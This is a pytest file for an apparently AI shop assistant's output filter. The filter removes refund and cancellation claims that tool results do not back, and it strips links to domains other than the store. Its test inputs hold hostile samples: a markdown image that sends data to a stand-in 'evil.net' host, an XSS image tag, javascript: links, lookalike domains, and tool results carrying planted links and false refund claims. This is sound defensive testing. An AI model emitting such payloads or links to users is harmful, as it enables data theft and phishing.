"""The output gate: nothing that was not done is said to be done, and no link leads elsewhere."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, AnyMessage, HumanMessage, ToolMessage

from agent.gate import Gate


def turn(*results: dict[str, object]) -> list[AnyMessage]:
    messages: list[AnyMessage] = [HumanMessage("hello")]
    for number, result in enumerate(results):
        messages.append(AIMessage("", tool_calls=[{"name": "x", "args": {}, "id": str(number)}]))
        messages.append(ToolMessage(json.dumps(result), tool_call_id=str(number)))
    return messages


def through(text: str, *results: dict[str, object], said: tuple[str, ...] = ()) -> str:
    gate = Gate({"shop.example.com"}, turn(*results), said)
    return (gate.feed(text) + gate.finish()).strip()


PROMISES = [
    "I have refunded your order.",
    "I've refunded 20 EUR to your card.",
    "I\u2019ve just cancelled it.",
    "Your refund has been processed.",
    "Your address was successfully changed.",
    "The money is already credited.",
    "I will refund you now.",
    "I'll get back to you tomorrow.",
    "We'll send a replacement.",
    "You will receive your money within 5 days.",
    "Done! Everything is set.",
    "We have gone ahead with it.",
    "You have been refunded 126.80 EUR.",
    "You've been refunded.",
    "I have **refunded** your order.",
    "I have gone on and refunded it.",
    "Your refund went through.",
    "Your refund is confirmed.",
    "Refund confirmed.",
    "The money is on its way back to your card.",
    "Refunded 126 EUR to your card.",
    "126.80 EUR was sent back to your Visa.",
]


@pytest.mark.parametrize("sentence", PROMISES)
def test_promises_without_proof_are_dropped(sentence: str) -> None:
    assert sentence not in through(f"Hello there. {sentence} Anything else?")
    assert through(f"Hello there. {sentence} Anything else?").startswith("Hello there.")


@pytest.mark.parametrize(
    ("sentence", "told"),
    [
        ("I have refunded your order.", "Done: 20.00 EUR for order 1007 has been refunded to Visa."),
        ("I've refunded 20 EUR to your card.", "Done: 20.00 EUR for order 1007 has been refunded to Visa."),
        ("I've just cancelled it.", "Done: order 1007 is cancelled."),
        ("Your refund has been processed.", "Done: 20.00 EUR for order 1007 has been refunded to Visa."),
        ("Your address was successfully changed.", "Done: order 1007 goes to the new address."),
        ("Order 1007 has been refunded.", "Done: 20.00 EUR for order 1007 has been refunded to Visa."),
    ],
)
def test_what_the_ledger_shows_may_be_said(sentence: str, told: str) -> None:
    assert sentence in through(sentence, {"kind": "outcome", "state": "confirmed", "sentence": told})
    assert sentence not in through(sentence, {"kind": "outcome", "state": "processing", "sentence": "Wait."})
    other = {"kind": "outcome", "state": "confirmed", "sentence": "Done: the note on order 1010 is there."}
    assert sentence not in through(sentence, other)


@pytest.mark.parametrize(
    "sentence",
    [
        "I have refunded 999.00 EUR.",
        "€21 was sent back to your Visa.",
        "I've refunded it twice.",
        "You've been refunded 2,000 euros.",
        "I have refunded 20 EUR, and 1.234,50 EUR of the other order.",
    ],
)
def test_a_confirmed_change_backs_no_other_sum(sentence: str) -> None:
    told = "Done: 20.00 EUR for order 1007 has been refunded to Visa."
    assert through(sentence, {"kind": "outcome", "state": "confirmed", "sentence": told}) == ""


def test_a_sum_may_be_written_in_other_ways() -> None:
    told = "Done: 1234.50 EUR for order 1007 has been refunded to Visa."
    for said in (
        "I have refunded 1,234.50 EUR.",
        "€1.234,50 was sent back to your card.",
        "I've refunded 1234.5 euros.",
    ):
        assert through(said, {"kind": "outcome", "state": "confirmed", "sentence": told}) == said


@pytest.mark.parametrize(
    ("sentence", "passes"),
    [
        ("Order 1007 has been refunded 20 EUR.", True),
        ("Order 1007 has been refunded 21 EUR.", False),
        ("Your refund has been processed.", True),
        ("You've been refunded.", True),
        ("Order 1007 has been refunded.", True),
        ("Order 1008 has been refunded.", False),
        ("I have refunded your order.", False),
        ("Your address was successfully changed.", False),
        ("I will refund you now.", False),
    ],
)
def test_an_order_that_was_read_backs_its_own_state_only(sentence: str, passes: bool) -> None:
    order = {"number": "1007", "status": "delivered", "refunded": "20.00"}
    assert (sentence in through(sentence, {"kind": "order", "order": order})) is passes
    several = {"kind": "orders", "orders": [{**order, "status": "refunded"}, {"number": "1008", "status": "open"}]}
    assert (sentence in through(sentence, several)) is (
        sentence in ("Order 1007 has been refunded.", "Order 1007 has been refunded 20 EUR.")
    )


@pytest.mark.parametrize(
    "sentence",
    [
        "Your order is on its way.",
        "Order 1007 was delivered on Monday.",
        "I can refund that if you confirm.",
        "Would you like a refund?",
        "The jacket costs 79.00 EUR and is in stock.",
        "A refund is possible within 30 days.",
        "I have not refunded it.",
        "Order 1007 was sent on Monday.",
    ],
)
def test_plain_talk_passes(sentence: str) -> None:
    assert through(sentence) == sentence


def test_what_code_wrote_passes_verbatim() -> None:
    reason = "Order 1020 has already been refunded in full."
    assert through(reason, {"kind": "denied", "reason": reason}) == reason
    assert through(reason) == ""


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://shop.example.com/p/1 now.", "See https://shop.example.com/p/1 now."),
        ("See https://evil.example.net/?q=1 now.", "See [link removed] now."),
        ("See https://shop.example.com.evil.net/x now.", "See [link removed] now."),
        ("See https://shop.example.com@evil.net/x now.", "See [link removed] now."),
        ("Click [here](https://evil.net).", "Click here."),
        ("Click [here](https://shop.example.com/a).", "Click here (https://shop.example.com/a)."),
        ("![x](https://evil.net/leak?d=1) Hi.", "x Hi."),
        ("<img src=x onerror=alert(1)>Hi.", "Hi."),
        ("Go to javascript:alert please.", "Go to [link removed] please."),
        ("www.evil.net is nice.", "[link removed] is nice."),
        ("Pay here:evil.net/pay or at /evil.net now.", "Pay here:[link removed] or at /[link removed] now."),
    ],
)
def test_links_lead_to_the_store_only(text: str, expected: str) -> None:
    assert through(text) == expected


def test_links_from_tool_results_pass() -> None:
    url = "https://tracking.example.org/t/1"
    assert url in through(f"Track it: {url}", {"kind": "order", "order": {"tracking": [{"url": url}]}})
    rules = {"kind": "policy", "text": f"Forms are at {url}."}
    assert url in through(f"Get the form: {url}", rules)


@pytest.mark.parametrize("field", ["title", "brand", "category", "variant", "paid_with", "reason"])
def test_a_link_in_a_title_is_no_link_that_a_tool_gave(field: str) -> None:
    found = {"kind": "products", "products": [{field: "Cap, see https://evil.net/x"}]}
    assert through("Cap, see https://evil.net/x now.", found) == "Cap, see [link removed] now."


@pytest.mark.parametrize(
    "result",
    [
        {"kind": "products", "query": "https://evil.net/pay", "understood": {"query": "https://evil.net/pay"}},
        {"kind": "error", "message": "Order 1 has no article https://evil.net/pay. I have refunded it."},
        {"kind": "proposal", "summary": "Send it to https://evil.net/pay. I have refunded it."},
    ],
)
def test_what_a_model_gets_echoed_backs_nothing(result: dict[str, object]) -> None:
    assert through("Pay at https://evil.net/pay now.", result) == "Pay at [link removed] now."
    assert through("I have refunded it.", result) == ""


def test_a_line_break_does_not_hide_a_claim() -> None:
    assert "refunded" not in through("I have\nrefunded your order.")


def test_nothing_is_said_twice() -> None:
    assert through("Done: it is refunded.", said=("Done: it is refunded.",)) == ""


@given(st.text(max_size=300), st.integers(1, 9))
def test_pieces_make_no_difference(text: str, size: int) -> None:
    pieces = Gate({"shop.example.com"}, turn())
    streamed = "".join(pieces.feed(text[start : start + size]) for start in range(0, len(text), size)) + pieces.finish()
    whole = Gate({"shop.example.com"}, turn())
    assert streamed == whole.feed(text) + whole.finish()
    assert "evil" not in streamed or "evil" in text
